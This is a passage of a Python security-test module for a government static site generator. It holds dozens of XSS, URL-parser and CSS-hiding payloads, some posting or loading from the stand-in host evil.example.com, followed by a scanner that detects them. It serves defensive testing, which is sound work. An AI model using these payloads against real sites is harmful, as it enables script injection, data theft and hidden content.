"""Attack vectors against gsgen, an independent scanner of its output, and the harness that feeds the one
to gsgen and judges the result with the other.

Three parts, importable separately:

* VECTORS: payloads in three classes: (a) OWASP XSS filter-evasion forms, (b) URL-parser tricks
  judged as a WHATWG browser reads them, (c) inline styles that hide, overlay or load. Issue 28 adds
  cases of eight more, each an entry point of its own: (d) attachments with active content (CRAFTED),
  (e) formulas in CSV data downloads, (f) control characters in feeds, (g) items dated after now,
  (h) hidden links in bodies and in a site theme's stylesheets and scripts, (i) control characters in
  what gsgen prints, (j) bodies and front matter that exhaust a build (EXHAUSTION; every build is
  stopped after BUILD_SECONDS), (k) citizen ID numbers hidden where an editor does not look (PERSONAL).
* `unsafe_output(folder)`: reads a built site with lxml, ada_url, tinycss2, cssselect, csv and zipfile
  and lists what a browser would execute, load from elsewhere, or hide (a theme's stylesheets
  applied), what a published file carries (PDF scripts and actions, Office macros, external parts and
  fields, programs and traps in ZIPs, bytes that are not what the name says), CSV cells a spreadsheet
  evaluates, XML that does not parse, and valid citizen ID numbers anywhere in a published file. It
  never imports gsgen: it must not share gsgen's blind spots. What only the source tells (pages held
  for a later date, a CSV's rows) the harness passes in an `Expect`.
* `run_entries()`: builds sites carrying the vectors at each entry point (Markdown bodies, front
  matter, structured items, config.yaml, a site theme, and issue 28's) and gives each case one outcome.

`python -m tests.attacks --table` prints the summary (`--new`: issue 28's entry points alone); add
`--details` for every case that failed, and set GSGEN_ATTACKS_LOG=1 to see each build and why a group
of cases was split.
"""

from __future__ import annotations

import argparse
import contextlib
import csv
import functools
import gzip
import hashlib
import io
import json
import os
import posixpath
import re
import shutil
import signal
import sys
import tempfile
import threading
import time
import unicodedata
import zipfile
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass, field, replace
from html.parser import HTMLParser
from multiprocessing import get_context
from pathlib import Path
from typing import Any

import lxml.etree
import lxml.html
import tinycss2
import tinycss2.ast
from ada_url import URL
from cssselect import HTMLTranslator, SelectorError

DOMAIN = "www.test.gov.cn"
EVIL = "evil.example.com"

# ================================================================ vectors


@dataclass(frozen=True)
class Vector:
    id: str
    cls: str  # "xss" (a), "url" (b) or "style" (c)
    kind: str  # "html" (a fragment), "url", "style" (declarations) or "color" (a colors.primary value)
    payload: str


CLASSES = ("xss", "url", "style")

_HTML_XSS = {
    # <script> in case, split and nested forms
    "script-plain": "<script>alert(1)</script>",
    "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
    "script-mixed-src": f"<ScRiPt SrC=https://{EVIL}/x.js></sCrIpT>",
    "script-nested": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-double-open": "<<script>alert(1);//<</script>",
    "script-slash-attr": f'<script/xss src="https://{EVIL}/x.js"></script>',
    "script-tab": "<script\t>alert(1)</script>",
    "script-formfeed-src": f"<script\fsrc=https://{EVIL}/x.js></script>",
    "script-in-svg": "<svg><script>alert(1)</script></svg>",
    "script-json-breakout": '<script type="application/json">{"a":"</script><script>alert(1)</script>"}</script>',
    # event handlers on img/svg/body/details/video and friends
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-slashes": "<img/src=x/onerror=alert(1)>",
    "img-backtick": "<img src=`x` onerror=alert(1)>",
    "img-formfeed": "<img\fsrc=x\fonerror=alert(1)>",
    "img-spaced-equals": "<img src=x onerror  =  alert(1)>",
    "img-no-space-between-attrs": '<img src="x" alt=""onerror="alert(1)">',
    "svg-onload": "<svg onload=alert(1)></svg>",
    "svg-slash-onload": "<svg/onload=alert(1)></svg>",
    "body-onload": "<body onload=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "video-onerror": "<video src=x onerror=alert(1)></video>",
    "video-source-onerror": "<video><source src=x onerror=alert(1)></video>",
    "audio-onerror": "<audio src=x onerror=alert(1)></audio>",
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "a-onmouseover": '<a href="https://www.gov.cn/" onmouseover="alert(1)">链接</a>',
    "svg-animate-onbegin": '<svg><animate onbegin="alert(1)" attributeName="x" dur="1s"></animate></svg>',
    "isindex-onerror": "<isindex type=image src=1 onerror=alert(1)>",
    # malformed-quote and parser-differential tricks
    "img-quote-trick": '<img """><script>alert(1)</script>">',
    "comment-trick": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    # frames, objects, base, refresh
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-srcdoc-entities": '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>',
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-foreign": f'<iframe src="https://{EVIL}/"></iframe>',
    "object-data": f'<object data="https://{EVIL}/x.swf"></object>',
    "object-js": '<object data="javascript:alert(1)"></object>',
    "embed": f'<embed src="https://{EVIL}/x.swf">',
    "applet": f'<applet code="Evil.class" codebase="https://{EVIL}/"></applet>',
    "frameset": '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
    "base-href": f'<base href="https://{EVIL}/">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=https://{EVIL}/">',
    "meta-refresh-js": '<meta http-equiv="Refresh" content="0;url=javascript:alert(1)">',
    # forms to another host
    "form-action": f'<form action="https://{EVIL}/steal" method="post"><input name="id"><button>提交</button></form>',
    "button-formaction": f'<form><button formaction="https://{EVIL}/steal">提交</button></form>',
    "input-formaction-js": '<form><input type="submit" formaction="javascript:alert(1)" value="提交"></form>',
    # <math>/<svg> links, srcset, poster, background, cite, ping, manifest
    "math-maction-xlink": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">点击</maction></math>',
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "svg-a-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">点击</text></a></svg>',
    "svg-use-external": f'<svg><use href="https://{EVIL}/x.svg#a"></use></svg>',
    "svg-set-href": '<svg><a><set attributeName="href" to="javascript:alert(1)"></set><text y="20">点</text></a></svg>',
    "svg-foreignobject": '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
    "</foreignObject></svg>",
    "img-srcset-foreign": f'<img src="/static/img/favicon.svg" srcset="https://{EVIL}/t.gif 2x" alt="">',
    "img-srcset-js": '<img srcset="javascript:alert(1) 1x" alt="">',
    "video-poster-foreign": f'<video controls poster="https://{EVIL}/p.jpg"></video>',
    "video-poster-js": '<video controls poster="javascript:alert(1)"></video>',
    "table-background-js": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "blockquote-cite-js": '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "a-ping": f'<a href="/index.html" ping="https://{EVIL}/track">首页</a>',
    "html-manifest": f'<html manifest="https://{EVIL}/x.appcache">',
    # stylesheets
    "link-stylesheet": f'<link rel="stylesheet" href="https://{EVIL}/x.css">',
    "link-icon": f'<link rel="icon" href="https://{EVIL}/favicon.ico">',
    "style-import": f"<style>@import 'https://{EVIL}/x.css';</style>",
    "style-url": f"<style>body{{background:url(https://{EVIL}/t.gif)}}</style>",
}

_URL_XSS = {
    # javascript:/vbscript:/data: with entity encoding, control characters and spaces in the scheme
    "js": "javascript:alert(1)",
    "js-case": "JaVaScRiPt:alert(1)",
    "js-dec-entities": "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
    "js-hex-entities": "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
    "js-entities-no-semicolon": "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058alert(1)",
    "js-colon-entity": "javascript&colon;alert(1)",
    "js-colon-dec-entity": "javascript&#58;alert(1)",
    "js-tab-entity": "jav&#x09;ascript:alert(1)",
    "js-tab-named": "java&Tab;script:alert(1)",
    "js-tab": "jav\tascript:alert(1)",
    "js-newline-entity": "jav&#x0A;ascript:alert(1)",
    "js-newline-named": "&NewLine;javascript:alert(1)",
    "js-newline": "java\nscript:alert(1)",
    "js-cr-entity": "jav&#x0D;ascript:alert(1)",
    "js-nul": "java\0script:alert(1)",
    "js-nul-entity": "java&#0;script:alert(1)",
    "js-leading-spaces": "   javascript:alert(1)",
    "js-leading-controls": "\x01\x14javascript:alert(1)",
    "js-leading-entity": "&#14;  javascript:alert(1)",
    "js-comment-host": "javascript://www.gov.cn/%0Aalert(1)",
    "vbscript": "vbscript:msgbox(1)",
    "vbscript-case": "VBScript:MsgBox(1)",
    "data-html-base64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data-html-plain": "data:text/html,<script>alert(1)</script>",
    "data-svg": "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+",
    "data-entity": "&#100;ata:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
}

_URL_TRICKS = {
    # backslashes: WHATWG reads "\" as "/" in special URLs; Python's urlsplit does not
    "backslash-gov-suffix": f"https://{EVIL}\\.gov.cn/x",
    "slash-backslash": f"/\\{EVIL}/x",
    "double-backslash": f"\\\\{EVIL}/x",
    "backslash-slash": f"\\/{EVIL}/x",
    "scheme-backslashes": f"https:\\\\{EVIL}\\x",
    "backslash-userinfo": f"https://{EVIL}\\@www.gov.cn/",
    "port-backslash-userinfo": f"https://{EVIL}:443\\@www.gov.cn/",
    # userinfo
    "userinfo-gov": f"https://www.gov.cn@{EVIL}/",
    "userinfo-gov-port": f"https://www.gov.cn:443@{EVIL}/",
    "userinfo-encoded-slash": f"https://www.gov.cn%2F@{EVIL}/",
    "userinfo-credentials": f"https://user:pass@{EVIL}/",
    # missing or extra slashes
    "https-no-slashes": f"https:{EVIL}/x",
    "http-no-slashes": f"http:{EVIL}/x",
    "https-one-slash": f"https:/{EVIL}/x",
    "protocol-relative": f"//{EVIL}/x",
    "triple-slash": f"///{EVIL}/x",
    "protocol-relative-space": f" //{EVIL}/x",
    # .gov.cn outside the host
    "fragment-gov": f"https://{EVIL}#.gov.cn",
    "query-gov": f"https://{EVIL}?.gov.cn",
    "path-gov": f"https://{EVIL}/.gov.cn",
    "pct-slash-gov": f"https://{EVIL}%2f.gov.cn/",
    "pct-backslash-gov": f"https://{EVIL}%5c.gov.cn/",
    "pct-nul-gov": f"https://{EVIL}%00.gov.cn/",
    "gov-subdomain-decoy": f"https://www.gov.cn.{EVIL}/",
    "gov-suffix-lookalike": "https://evilgov.cn/",
    # full-width and look-alike characters
    "fullwidth-letters": "https://ｅｖｉｌ．ｅｘａｍｐｌｅ．ｃｏｍ/x",
    "ideographic-dots": "https://evil。example。com/x",
    "fullwidth-dot-decoy": f"https://www.gov.cn．{EVIL}/",
    "fullwidth-solidus": f"https://{EVIL}／.gov.cn/",
    "cyrillic-o": "https://www.gоv.cn/",
    "pct-encoded-dots": "https://evil%2Eexample%2Ecom/",
    "trailing-dot": f"https://{EVIL}./",
    "uppercase": f"HTTPS://{EVIL.upper()}/",
    "leading-spaces": f"  https://{EVIL}/",
    "plain-foreign": f"https://{EVIL}/",
    "http-foreign": f"http://{EVIL}/",
    # IP hosts
    "ip-loopback": "http://127.0.0.1/",
    "ip-hex": "http://0x7f000001/",
    "ip-decimal": "http://2130706433/",
    "ip-octal": "http://0177.0.0.1/",
    "ipv6-loopback": "http://[::1]/",
    "ip-private": "http://192.168.1.1/admin",
    # other schemes
    "file": "file:///etc/passwd",
    "file-host": f"file://{EVIL}/share/x",
    "ftp": f"ftp://{EVIL}/x",
    "blob": f"blob:https://{EVIL}/0b3e5d6a",
    "wss": f"wss://{EVIL}/socket",
}

_STYLE_XSS = {
    "css-expression": "width:expression(alert(1))",
    "css-expression-escaped": "width:expr\\65ssion(alert(1))",
    "css-behavior": f"behavior:url(https://{EVIL}/x.htc)",
    "css-moz-binding": f"-moz-binding:url(https://{EVIL}/x.xml#xss)",
    "css-url-js": "background:url(javascript:alert(1))",
}

_STYLE_HIDE = {
    "display-none": "display:none",
    "display-none-spaced": "display : none",
    "display-upper": "DISPLAY:NONE",
    "display-important": "display:none !important",
    "display-comment-value": "display:/**/none",
    "display-comment-name": "dis/**/play:none",
    "display-escape-name": "d\\69splay:none",
    "display-escape-first": "\\64isplay:none",
    "display-escape-value": "display:n\\6f ne",
    "display-repeated": "display:block;display:none",
    "visibility-hidden": "visibility:hidden",
    "visibility-collapse": "visibility:collapse",
    "content-visibility": "content-visibility:hidden",
    "opacity-0": "opacity:0",
    "opacity-001": "opacity:.01",
    "opacity-percent": "opacity:0%",
    "font-size-0": "font-size:0",
    "font-size-1px": "font-size:1px",
    "size-zero-overflow": "width:0;height:0;overflow:hidden",
    "size-1px-overflow": "width:1px;height:1px;overflow:hidden",
    "max-height-0": "max-height:0;overflow:hidden",
    "max-width-0": "max-width:0",
    "clip-rect": "clip:rect(0 0 0 0)",
    "clip-path-inset": "clip-path:inset(50%)",
    "clip-path-circle": "clip-path:circle(0)",
    "text-indent": "text-indent:-9999px",
    "left-negative": "position:relative;left:-9999px",
    "left-alone": "left:-9999px",
    "margin-negative": "margin-left:-9999px",
    "margin-shorthand-negative": "margin:0 0 0 -10000px",
    "transform-scale0": "transform:scale(0)",
    "transform-translate": "transform:translateX(-9999px)",
    "translate-property": "translate:-9999px",
    "position-fixed": "position:fixed",
    "position-absolute": "position:absolute",
    "position-sticky": "position:sticky",
    "position-escape": "position:fi\\78 ed",
    "position-comment": "position:/**/fixed",
    "position-upper-important": "POSITION:FIXED!IMPORTANT",
    "inset-overlay": "position:fixed;inset:0;z-index:99999;background:#fff",
    "z-index": "z-index:2147483647",
    "overlay-full": "position:absolute;top:0;left:0;width:100%;height:100%",
    # loading from another host
    "bg-url": f"background:url(https://{EVIL}/t.gif)",
    "bg-url-quoted": f"background-image:url('https://{EVIL}/t.gif')",
    "bg-url-escaped": f"background:u\\72l(https://{EVIL}/t.gif)",
    "bg-url-protocol-relative": f"background:url(//{EVIL}/t.gif)",
    "bg-image-set": f"background-image:image-set('https://{EVIL}/t.gif' 1x)",
    "list-style-image": f"list-style-image:url(https://{EVIL}/t.gif)",
    "cursor-url": f"cursor:url(https://{EVIL}/c.cur),auto",
    "border-image": f"border-image:url(https://{EVIL}/b.png) 30",
}

# colors.primary lands inside a <style> element: CSS and HTML injection through config.yaml.
_COLORS = {
    "color-css-breakout": ("style", f"#b4171b;background:url(https://{EVIL}/x)}}body{{display:none}}"),
    "color-import": ("style", f"#b4171b;}}@import url(https://{EVIL}/x.css);:root{{--x:0"),
    "color-url-only": ("style", f"url(https://{EVIL}/x)"),
    "color-escaped-breakout": ("style", f"#b4171b\\;}}body{{background:url(//{EVIL}/x)}}"),
    "color-style-close": ("xss", "#b4171b}</style><script>alert(1)</script>"),
    "color-expression": ("xss", "expression(alert(1))"),
}


def _vectors() -> list[Vector]:
    found = [Vector(f"a-{k}", "xss", "html", v) for k, v in _HTML_XSS.items()]
    found += [Vector(f"a-url-{k}", "xss", "url", v) for k, v in _URL_XSS.items()]
    found += [Vector(f"a-css-{k}", "xss", "style", v) for k, v in _STYLE_XSS.items()]
    found += [Vector(f"b-{k}", "url", "url", v) for k, v in _URL_TRICKS.items()]
    found += [Vector(f"c-{k}", "style", "style", v) for k, v in _STYLE_HIDE.items()]
    found += [Vector(f"{'a' if cls == 'xss' else 'c'}-{k}", cls, "color", v) for k, (cls, v) in _COLORS.items()]
    return found


VECTORS: list[Vector] = _vectors()


def vectors_of(kind: str) -> list[Vector]:
    return [v for v in VECTORS if v.kind == kind]


# ================================================================ the scanner

# Attributes a browser reads as a URL. srcset and ping hold several.
URL_ATTRIBUTES = (
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "data",
    "background",
    "cite",
    "xlink:href",
    "manifest",
    "codebase",
    "longdesc",
)
SAFE_PROTOCOLS = {"http:", "https:", "mailto:", "tel:"}
DANGEROUS_TAGS = {"object", "embed", "applet", "base", "frame", "frameset"}
RESOURCE_LINK_RELS = {"stylesheet", "icon", "apple-touch-icon", "mask-icon", "preload", "prefetch", "modulepreload"}
# Elements whose `src` (or SVG `href`) the browser fetches with the page. Iframes have their own rule
# (any .gov.cn host), <a> and <area> theirs (a leaving prompt for non-government hosts).
SRC_RESOURCES = {"img", "script", "video", "audio", "source", "track", "input", "embed", "frame"}
GOVERNMENT_MEDIA = {"img", "video", "audio", "source", "track", "iframe", "frame", "image"}
SVG_RESOURCES = {"image", "use", "feimage", "script"}
RESOURCE_ATTRIBUTES = {"srcset", "poster", "background", "data", "codebase", "manifest", "action", "formaction", "ping"}
HTML_SUFFIXES = (".html", ".htm", ".xhtml", ".shtml")
SERVER_SUFFIXES = (".php", ".phtml", ".asp", ".aspx", ".jsp", ".cgi")


@dataclass(frozen=True)
class Finding:
    file: str  # path in the output folder
    line: int
    message: str  # says what and shows the tag, never the page: the same problem reads the same everywhere
    value: str = ""  # the offending attribute value, to tie the finding to the case that wrote it

    def __str__(self) -> str:
        return f"{self.file}:{self.line}: {self.message}"


@dataclass(frozen=True)
class Expect:
    """What the harness knows of the source that the output alone does not tell."""

    held: frozenset[str] = frozenset()  # pages of items dated after the build's now: nothing may show them
    csv_rows: dict[str, int] = field(default_factory=dict)  # published CSV → rows of its source, header included
    csv_numbers: dict[str, tuple[str, ...]] = field(default_factory=dict)  # … → numbers that must stay numbers


def unsafe_output(folder: str | os.PathLike[str], domain: str = DOMAIN, expect: Expect | None = None) -> list[str]:
    """Everything in a built site that a browser would run, fetch from another host, or hide, and every
    published file that carries active content, a formula or a malformed feed."""
    return [str(f) for f in scan_folder(Path(folder), domain, expect)]


def scan_folder(folder: Path, domain: str = DOMAIN, expect: Expect | None = None) -> list[Finding]:
    expect = expect or Expect()
    sheets = Stylesheets(folder)
    findings: list[Finding] = []
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
        rel = path.relative_to(folder).as_posix()
        lower = rel.lower()
        if rel in expect.held:
            findings.append(Finding(rel, 1, "an item dated after the build's now is published", rel))
        if lower.endswith(HTML_SUFFIXES):
            if not lower.endswith(".html"):
                suffix = posixpath.splitext(rel)[1]
                findings.append(
                    Finding(rel, 0, f"a {suffix} file: gsgen writes only .html pages (raw HTML published?)")
                )
            findings += scan_page(path.read_bytes().decode("utf-8", "replace"), rel, domain, sheets, expect.held)
        elif lower.endswith(".svg"):
            findings += scan_svg(path.read_bytes(), rel)
        elif lower.endswith(".xml"):
            data = path.read_bytes()
            findings += scan_xml(data, rel) + scan_feed(data, rel, domain, expect.held)
        elif lower.endswith((".js", ".mjs")):
            if not lower.startswith("static/"):
                findings.append(Finding(rel, 0, "a script file outside static/"))
            findings += scan_script(path.read_bytes(), rel)
        elif lower.startswith("search/x/"):
            findings += scan_search_record(path.read_bytes(), rel, expect.held)
        elif lower.endswith(SERVER_SUFFIXES):
            findings.append(Finding(rel, 0, "a server-side script file"))
        elif lower.endswith(".csv"):
            findings += scan_csv(path.read_bytes(), rel, expect)
        elif not lower.startswith(("static/", "search/", ".")) and not lower.endswith(".css"):
            findings += [Finding(rel, 0, problem) for problem in file_problems(path.read_bytes(), rel)]
    return findings


def scan_search_record(data: bytes, rel: str, held: frozenset[str] = frozenset()) -> list[Finding]:
    """What a search result shows (gsgen/search/FORMAT.md): its link must be a page of the site; its
    words are shown as text by the client, so only the link can lead anywhere."""
    try:
        record = json.loads(gzip.decompress(data))
    except (OSError, ValueError):
        return [Finding(rel, 0, "a search record that is not gzip-compressed JSON")]
    url = record.get("url", "") if isinstance(record, dict) else ""
    if not isinstance(url, str) or not url.startswith("/") or url.startswith("//") or "\\" in url:
        return [Finding(rel, 0, "a search result that links off the site", str(url))]
    if re.search(r"[\x00-\x20]", url):
        return [Finding(rel, 0, "a search result link with spaces or control characters", url)]
    if url.lstrip("/") in held:
        return [Finding(rel, 0, "a search result for an item dated after now", url.lstrip("/"))]
    return []


def scan_page(
    text: str, rel: str, domain: str = DOMAIN, sheets: Stylesheets | None = None, held: frozenset[str] = frozenset()
) -> list[Finding]:
    """One HTML page, read twice: as lxml builds its tree, and tag by tag as a browser's tokenizer meets
    them, so that tags libxml2 drops or reparents (a second <body>, <frameset>, what follows a
    </noscript> inside an attribute) are judged too. On the tree, links leaving the government web are
    also judged as they are seen: with the page's stylesheets applied (`sheets`, the site's files)."""
    text = text.replace("\0", "\ufffd")  # as the HTML tokenizer does; libxml2 would stop at a NUL
    checker = _PageChecker(rel, domain)
    parser = lxml.html.HTMLParser()
    try:
        root = lxml.html.document_fromstring(text, parser=parser)
    except (lxml.etree.ParserError, ValueError):
        root = None
    for error in parser.error_log:  # libxml2 stopped early (256 nested elements): the rest is unread
        if error.level >= lxml.etree.ErrorLevels.FATAL:
            checker.add(error.line, f"the page could not be parsed whole: {error.message.strip()}", "")
    if root is None or not any(m.get("name") == "SiteIDCode" for m in root.iter("meta")):
        checker.add(1, 'no <meta name="SiteIDCode">: not a page gsgen rendered (raw HTML published?)', "")
    if root is not None:
        for el in root.iter():
            if isinstance(el.tag, str):
                inner = el.text_content() if el.tag.lower() in ("script", "style") else ""
                checker.element(el.tag.lower(), dict(el.attrib), inner, el.sourceline or 0)
        for line, message, value in hidden_links(root, checker.base, domain, sheets):
            checker.add(line, message, value)
        for line, path in links_to(root, checker.base, domain, held):
            checker.add(line, f"a link to an item dated after now ({path})", path)
    tokens = _Tokens(checker)
    tokens.feed(text)
    tokens.close()
    return checker.findings


class _Tokens(HTMLParser):
    # Raw-text and RCDATA elements as a browser with scripting on parses them: what looks like tags in
    # them is text, and their end tag ends them even where it sits inside an attribute-like string.
    CDATA_CONTENT_ELEMENTS = (
        "script",
        "style",
        "noscript",
        "iframe",
        "noembed",
        "noframes",
        "xmp",
        "textarea",
        "title",
    )

    def __init__(self, checker: _PageChecker) -> None:
        super().__init__(convert_charrefs=True)
        self.checker = checker
        self.open: tuple[str, dict[str, str], int, list[str]] | None = None  # a <script> or <style>

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        first: dict[str, str] = {}
        for name, value in attrs:  # of duplicated attributes the first wins, as in browsers
            first.setdefault(name, value or "")
        if tag in ("script", "style"):
            self.open = (tag, first, self.getpos()[0], [])
        else:
            self.checker.element(tag, first, "", self.getpos()[0])

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self.open is not None:
            self.open[3].append(data)

    def handle_endtag(self, tag: str) -> None:
        if self.open is not None and tag == self.open[0]:
            name, attrs, line, parts = self.open
            self.open = None
            self.checker.element(name, attrs, "".join(parts), line)

    def close(self) -> None:
        super().close()
        if self.open is not None:  # an unclosed <script> or <style> runs to the end of the page
            self.handle_endtag(self.open[0])


class _PageChecker:
    def __init__(self, rel: str, domain: str) -> None:
        self.rel = rel
        self.domain = domain.lower()
        self.base = f"https://{domain}/{rel}"
        self.findings: list[Finding] = []
        self._seen: set[tuple[int, str]] = set()

    def add(self, line: int, message: str, value: str) -> None:
        if (line, message) not in self._seen:  # both passes see most tags: report each once
            self._seen.add((line, message))
            self.findings.append(Finding(self.rel, line, message, value))

    def resolve(self, value: str) -> URL | None:
        try:
            return URL(value, self.base)
        except ValueError:
            return None  # a URL the browser cannot parse goes nowhere

    def element(self, tag: str, attrs: dict[str, str], text: str, line: int) -> None:
        attrs = {k.lower(): v or "" for k, v in attrs.items()}
        shown = _shorten(f"<{tag}" + "".join(f' {k}="{v}"' for k, v in attrs.items()) + ">")
        for name, value in attrs.items():
            if name.startswith("on"):
                self.add(line, f"event handler {name}: {shown}", value)
        if tag == "script":
            self._script(attrs, text, shown, line)
        if tag in DANGEROUS_TAGS:
            self.add(line, f"<{tag}> element: {shown}", attrs.get("src") or attrs.get("data") or attrs.get("href", ""))
        if tag == "meta" and attrs.get("http-equiv", "").strip().lower() == "refresh":
            self.add(line, f"meta refresh: {shown}", attrs.get("content", ""))
        # the page's own address, as 《政府网站网页设计规范》 metadata and search engines read it
        own = attrs.get("content", "") if tag == "meta" and attrs.get("name") in ("Url", "Image") else ""
        if tag == "link" and "canonical" in attrs.get("rel", "").lower().split():
            own = attrs.get("href", "")
        host = _host(own, self.base) if own else None
        if host is not None and host != self.domain:
            self.add(line, f"the page's own address on another host {host}: {shown}", own)
        if tag == "iframe":
            self._iframe(attrs, shown, line)
        for name, value in self._urls(tag, attrs):
            self._url(tag, name, value, attrs, shown, line)
        if "style" in attrs:
            for problem in style_problems(attrs["style"]):
                self.add(line, f"inline style {problem}: {shown}", attrs["style"])
        if tag == "style":
            for problem, value in self._stylesheet(text):
                self.add(line, f"<style> {problem}: {_shorten(text)}", value)

    def _script(self, attrs: dict[str, str], text: str, shown: str, line: int) -> None:
        if "json" in attrs.get("type", "").lower():
            return  # data, never run
        if "src" not in attrs:
            self.add(line, f"inline script: {shown}{_shorten(text, 100)}", "")
            return
        url = self.resolve(attrs["src"])
        if url is not None and url.protocol in ("http:", "https:") and url.hostname.lower() != self.domain:
            self.add(line, f"script from another host {url.hostname}: {shown}", attrs["src"])

    def _iframe(self, attrs: dict[str, str], shown: str, line: int) -> None:
        if "srcdoc" in attrs:
            self.add(line, f"iframe srcdoc: {shown}", attrs["srcdoc"])
        url = self.resolve(attrs["src"]) if attrs.get("src") else None
        if url is not None and url.protocol in ("http:", "https:") and not is_government_host(url.hostname):
            self.add(line, f"iframe of a non-government host {url.hostname}: {shown}", attrs["src"])

    def _urls(self, tag: str, attrs: dict[str, str]) -> Iterator[tuple[str, str]]:
        for name in URL_ATTRIBUTES:
            if name in attrs:
                yield name, attrs[name]
        for candidate in srcset_urls(attrs.get("srcset", "")):
            yield "srcset", candidate
        for target in attrs.get("ping", "").split():
            yield "ping", target
        # an SVG animation that writes a link: <set attributeName="href" to="javascript:…">
        if tag in ("set", "animate") and attrs.get("attributename", "").lower() in ("href", "xlink:href"):
            for name in ("to", "from", "values"):
                if name in attrs:
                    yield name, attrs[name]

    def _url(self, tag: str, name: str, value: str, attrs: dict[str, str], shown: str, line: int) -> None:
        url = self.resolve(value)
        if url is None:
            return
        if url.protocol not in SAFE_PROTOCOLS:
            self.add(line, f"{name} with a {url.protocol} URL: {shown}", value)
            return
        if url.protocol not in ("http:", "https:"):
            return
        host = url.hostname.lower()
        if self._is_resource(tag, name, attrs):
            # Pictures, video and frames may come from government hosts (SAFE-HTML allows
            # government frames; the page policy allows img/media/frame-src https://*.gov.cn);
            # everything else a page loads or sends (scripts, stylesheets, pings, forms) only its own.
            government_ok = tag in GOVERNMENT_MEDIA or name in ("srcset", "poster", "background")
            if host != self.domain and not (government_ok and is_government_host(host)):
                self.add(line, f"{tag} {name} loads from another host {host}: {shown}", value)
        elif tag in ("a", "area") and not is_government_host(host) and "data-external" not in attrs:
            self.add(line, f"link to non-government host {host} without data-external: {shown}", value)

    @staticmethod
    def _is_resource(tag: str, name: str, attrs: dict[str, str]) -> bool:
        if name in RESOURCE_ATTRIBUTES:
            return True
        if name == "src":
            return tag in SRC_RESOURCES or tag == "iframe"
        if name in ("href", "xlink:href"):
            rels = set(attrs.get("rel", "").lower().split())
            return (tag == "link" and bool(rels & RESOURCE_LINK_RELS)) or tag in SVG_RESOURCES
        return False

    def _stylesheet(self, text: str) -> Iterator[tuple[str, str]]:
        rules = tinycss2.parse_stylesheet(text, skip_comments=True, skip_whitespace=True)
        nodes = list(_walk_css(rules))
        for node in nodes:
            if isinstance(node, tinycss2.ast.AtRule) and node.lower_at_keyword == "import":
                yield "@import", tinycss2.serialize(node.prelude).strip()
            elif isinstance(node, tinycss2.ast.FunctionBlock) and node.lower_name == "expression":
                yield "expression()", ""
            elif isinstance(node, tinycss2.ast.Declaration) and node.lower_name in ("behavior", "-moz-binding"):
                yield node.lower_name, ""
        for target in _css_urls(nodes):
            url = self.resolve(target)
            if url is not None and url.hostname.lower() != self.domain:
                yield f"url({target}) from another host", target


def is_government_host(host: str) -> bool:
    """A .gov.cn host (or the 党政机关网站标识 service, conac.cn), as the browser parsed it."""
    host = host.lower().rstrip(".")
    return any(host == suffix or host.endswith("." + suffix) for suffix in ("gov.cn", "conac.cn"))


def srcset_urls(value: str) -> list[str]:
    """The URLs of a srcset, as the HTML standard parses image candidate strings."""
    urls, pos = [], 0
    while pos < len(value):
        while pos < len(value) and (value[pos].isspace() or value[pos] == ","):
            pos += 1
        start = pos
        while pos < len(value) and not value[pos].isspace():
            pos += 1
        url = value[start:pos]
        if url.endswith(","):
            url = url.rstrip(",")
        elif url:
            depth = 0  # skip the descriptors, up to a comma outside parentheses
            while pos < len(value) and (depth or value[pos] != ","):
                depth += {"(": 1, ")": -1}.get(value[pos], 0)
                pos += 1
        if url:
            urls.append(url)
    return urls


def scan_svg(data: bytes, rel: str) -> list[Finding]:
    parser = lxml.etree.XMLParser(recover=True, resolve_entities=False, no_network=True)
    try:
        root = lxml.etree.fromstring(data, parser)
    except lxml.etree.XMLSyntaxError:
        root = None
    if root is None:  # not XML at all: judge the text
        text = data.decode("utf-8", "replace")
        if re.search(r"<script|<foreignObject|\son[a-z]+\s*=|href\s*=\s*[\"']?(?!#)", text, re.IGNORECASE):
            return [Finding(rel, 0, "unreadable SVG with script, event handlers or external links")]
        return []
    findings = []
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        name, line = lxml.etree.QName(el).localname.lower(), el.sourceline or 0
